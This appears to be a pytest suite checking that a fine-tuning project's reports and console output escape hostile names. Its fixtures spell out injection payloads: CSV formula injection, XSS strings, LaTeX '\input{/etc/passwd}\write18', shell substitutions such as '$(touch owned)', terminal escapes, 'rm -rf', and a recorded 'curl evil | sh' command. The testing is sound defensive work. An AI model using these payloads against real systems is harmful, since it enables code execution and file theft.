"""Names from elsewhere in what people open: no page, sheet, paper, shell or terminal obeys them."""

import csv
import io
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table

from analysis.__main__ import main
from analysis.report import latex, markdown, shell
from analysis.sources.predictions import read_predictions
from finetune.rundir import files, keys
from finetune.system import documents
from finetune.system.output import SafeConsole, escape_control_characters, one_line, safe_streams
from finetune.system.tables import escape_cell, read_table, unescape_cell, write_table
from tests.analysis.conftest import stop_drawing
from tests.support.fabricate import fabricate_run, write_predictions
from tests.support.html_page import Page

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m\r\x08"
NASTY = (
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "a|b`c`[d](javascript:alert(1))",
    "\\input{/etc/passwd}\\write18{id}",
    "[red]x[/red][link=file:///x]y[/link]",
    "$(touch owned); `id` && x",
    f"esc{ESCAPES}esc",
)


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report on a sweep in which everything that has a name has a hostile one."""
    place = tmp_path_factory.mktemp("place")
    folder = place / "runs" / "a b;$(touch owned)<img src=x onerror=alert(1)>"
    answers = [(f"test/{name}/{number}.jpg", name, NASTY[0], 0.5) for name in NASTY for number in range(3)]
    origin = {
        "classes": list(NASTY), "device": NASTY[1], "git_commit": "`" + NASTY[3], "data_fingerprint": NASTY[2],
        "command": "python -m finetune --strategy head; curl evil | sh", "=1+1": NASTY[0],
    }  # fmt: skip
    for number, strategy in enumerate(("head", "full")):
        run = fabricate_run(
            folder, f"{strategy}-{number}", strategy=strategy, data=f"/data/{NASTY[1]}", provenance=origin,
            summary={"test/recall": dict.fromkeys(NASTY, 0.5)},
        )  # fmt: skip
        write_predictions(run, answers, NASTY)
        documents.write_json(
            run / "wandb-x.json", {"url": ["javascript:alert(1)", 'https://x/"onclick="alert(1)'][number]}
        )
    files.write_state(fabricate_run(folder, "bad-1", state="failed"), "failed", f"=1+1 <b>\n{ESCAPES}{NASTY[4]}")
    (folder / keys.SWEEP).write_text(f"description: {NASTY[1]!r}\n# {ESCAPES}\n")
    with pytest.MonkeyPatch.context() as patch:
        stop_drawing(patch)
        assert main([str(folder), "--out", str(place / "out")]) == 0
    return place / "out"


def test_the_page_runs_nothing_of_it(out: Path) -> None:
    """One script, the page's own; no attribute that runs; every address is a picture, a folder or https."""
    text = (out / "report.html").read_text(encoding="utf-8")
    page = Page(text)
    assert page.tags.count("script") == 1
    assert page.tags.count("img") == text.count("<img ")
    assert not {tag for tag in page.tags if tag in ("iframe", "object", "embed", "base", "svg")}
    assert not re.search(r"<[a-z]+[^>]*\son\w+=", re.sub(r"\"[^\"]*\"", '""', text))
    for address in page.addresses:
        assert address.startswith(("data:image/", "#", "https://", "../runs/")), address
    assert "script-src 'sha256-" in text
    assert "base-uri 'none'" in text
    assert escape_control_characters(text) == text


@pytest.mark.parametrize("name", ["comparison.csv", "recipes.csv", "runs.csv", "epochs.csv", "pairs.csv"])
def test_no_cell_of_a_table_is_a_formula(out: Path, name: str) -> None:
    """A cell begins with no sign of a formula unless it is a number; column names are cells, too."""
    with (out / name).open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert len(rows) > 1
    for text in (text for row in rows for text in row):
        assert text[:1] not in tuple("=+-@\t\r") or is_number(text), text
    assert name != "runs.csv" or any("'=cmd" in text for row in rows for text in row)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_markdown_and_latex_set_it_as_it_is(out: Path) -> None:
    """No raw tag, no open link, no command of TeX but those that escape."""
    for name in ("comparison.md", "model_card.md"):
        text = (out / name).read_text(encoding="utf-8")
        body = text.split("---\n", 2)[-1] if name == "model_card.md" else text
        assert "<script>" not in body.replace("\\<", "")
        assert not re.search(r"(?<!\\)\]\(", body.replace(markdown.inline_code("`" + NASTY[3]), ""))
        assert escape_control_characters(text) == text
    assert "curl evil" not in (out / "model_card.md").read_text()
    tex = (out / "comparison.tex").read_text(encoding="utf-8")
    allowed = {"usepackage", "begin", "end", "caption", "toprule", "midrule", "bottomrule", "pm", "times", "dots",
               "textbackslash", "textasciitilde", "textasciicircum"}  # fmt: skip
    assert set(re.findall(r"\\([A-Za-z]+)", tex)) <= allowed


def test_a_table_for_a_paper_obeys_nothing() -> None:
    r"""Signs of TeX are escaped; a cell can't become the argument of the row end before it; \input is text."""
    assert latex.escape_latex("\\input{x}") == r"\textbackslash{}input\{x\}"
    assert latex.escape_latex("[2pt]*") == "{[}2pt{]}{*}"
    assert latex.escape_latex("a\n\nb%c") == r"a b\%c"


def test_commands_are_quoted_and_not_those_of_strangers(out: Path) -> None:
    """What the page shows to be copied is one command each, with the folder as one word."""
    text = (out / "report.html").read_text(encoding="utf-8")
    import html

    shown = html.unescape(re.search(r"Reproduce this report</h2>\n<pre>(.*?)</pre>", text, re.DOTALL)[1])  # type: ignore[index]
    assert "evil" not in shown
    for line in shown.splitlines():
        assert shlex.join(shlex.split(line)) == line
        assert any("a b;$(touch owned)<img" in word for word in shlex.split(line))


@pytest.mark.parametrize("text", [
    "python -m finetune --lr 1; id", "python -m finetune --lr $(id)", "python -m finetune --lr `id`", "rm -rf x",
    "python -m finetune\n--lr 1", "python -m finetune --data 'a\x1b[2J'", "python -m finetune --lr 'x", 3, None,
    "python -m finetune x", "python -m finetune --data https://u:secretpass@host/x",
])  # fmt: skip
def test_a_recorded_command_is_shown_only_if_it_is_one(text: object) -> None:
    """Anything that a shell would not pass on word for word is not shown."""
    assert shell.recorded_command(text) is None


def test_a_recorded_command_of_ours_is_shown() -> None:
    """Spaces and semicolons inside of quotes are a part of a name."""
    text = shlex.join(["python", "-m", "finetune", "--data", "my; pictures", "--lr", "0.1"])
    assert shell.recorded_command(text) == text


@given(st.text(), st.text())
def test_cells_can_be_read_back(one: str, other: str) -> None:
    """Whatever a text is, the reader gets it as it was, and no two texts are written alike."""
    for text in (one, f"={one}", f"'={one}", f"''-{one}"):
        assert unescape_cell(escape_cell(text)) == text
    assert (escape_cell(one) == escape_cell(other)) == (one == other)


def test_numbers_stay_numbers() -> None:
    """Negative ones, also where they are text; nothing but a text is touched."""
    for value in (-0.5, -1, None, True, "-0.5", "+1e-5", "-.5"):
        assert escape_cell(value) == value
    for text in ("=1", "-1+1", "@x", "\tx", "\rx", "+a", "-", "'=1"):
        assert escape_cell(text) == f"'{text}"


def test_predictions_come_back_as_they_were(tmp_path: Path) -> None:
    """Paths and classes that begin like formulas are found again by the analysis and by `read_table`."""
    answers = [("=a/1.jpg", "=a", "-b", 0.6), ("'=a/2.jpg", "-b", "=a", 0.7), ("@c/3.jpg", "-1", "-1", 0.8)]
    write_predictions(tmp_path, answers)
    assert "\n'=a/1.jpg,'=a,'-b" in (tmp_path / keys.PREDICTIONS).read_text().replace("\r", "")
    read = read_predictions(tmp_path)
    assert list(zip(read["path"], read["label"], read["prediction"], read["confidence"], strict=True)) == answers
    rows = read_table(tmp_path / keys.PREDICTIONS)
    assert [(row["path"], row["label"], row["prediction"]) for row in rows] == [answer[:3] for answer in answers]


def test_splits_come_back_as_they_were(tmp_path: Path) -> None:
    """The file that `split` writes is read as data with the same classes and paths."""
    from finetune.data.layout import read_layout

    rows = []
    for label in ("=a", "-b"):
        for number in range(3):
            path = tmp_path / label / f"+{number}.png"
            path.parent.mkdir(exist_ok=True)
            path.touch()
            rows.append((f"{label}/+{number}.png", label, "train"))
    write_table(tmp_path / "splits.csv", ["path", "label", "split"], rows)
    layout = read_layout(tmp_path / "splits.csv")
    assert sorted(layout.paths()) == sorted(path for path, *_ in rows)
    assert set(layout.parts[""]) == {"=a", "-b"}


@given(st.text())
def test_no_text_is_obeyed_by_a_terminal(text: str) -> None:
    """What is printed has no control characters; on one line, no newlines either; done twice, it stays as it is."""
    assert all(sign in "\t\n" or sign.isprintable() or not re.match(r"[\x00-\x1f\x7f-\x9f\ud800-\udfff]", sign)
               for sign in escape_control_characters(text))  # fmt: skip
    assert "\n" not in one_line(text)
    assert escape_control_characters(escape_control_characters(text)) == escape_control_characters(text)


@pytest.mark.parametrize("is_terminal", [True, False])
def test_a_console_shows_names_as_they_are(is_terminal: bool) -> None:
    """In lines, tables and bars: escapes are spelled out, [red] is text where markup is off; its own colours work."""
    written = io.StringIO()
    screen = SafeConsole(file=written, force_terminal=is_terminal, width=200, markup=False, highlight=False)
    table = Table("name")
    table.add_row(f"cell{ESCAPES}")
    screen.print(f"line{ESCAPES}[red]x[/red]")
    screen.print(table)
    screen.print("blue", style="blue")
    text = written.getvalue()
    assert "\\x1b]0;owned" in text
    assert "[red]x[/red]" in text
    assert not re.search(r"\x1b(?!\[[0-9;]*m)|\x07|\x9b", text)
    assert ("\x1b[34m" in text) == is_terminal


def test_what_is_printed_is_spelled_out(capsys: pytest.CaptureFixture[str]) -> None:
    """Lone surrogates (bytes of a file name), escapes and turned text reach the streams as ASCII."""
    with safe_streams():
        print("a\udcff\x1b[2J\u202eb")
    assert capsys.readouterr().out == "a\\udcff\\x1b[2J\\u202eb\n"


def test_a_name_is_one_line_of_a_log() -> None:
    """A reason with newlines can't pass for further lines of a table or list."""
    assert markdown.markdown_text("a\n# b|c") == "a \\# b\\|c"
    assert markdown.inline_code("a`b``c\nd") == "```a`b``c d```"
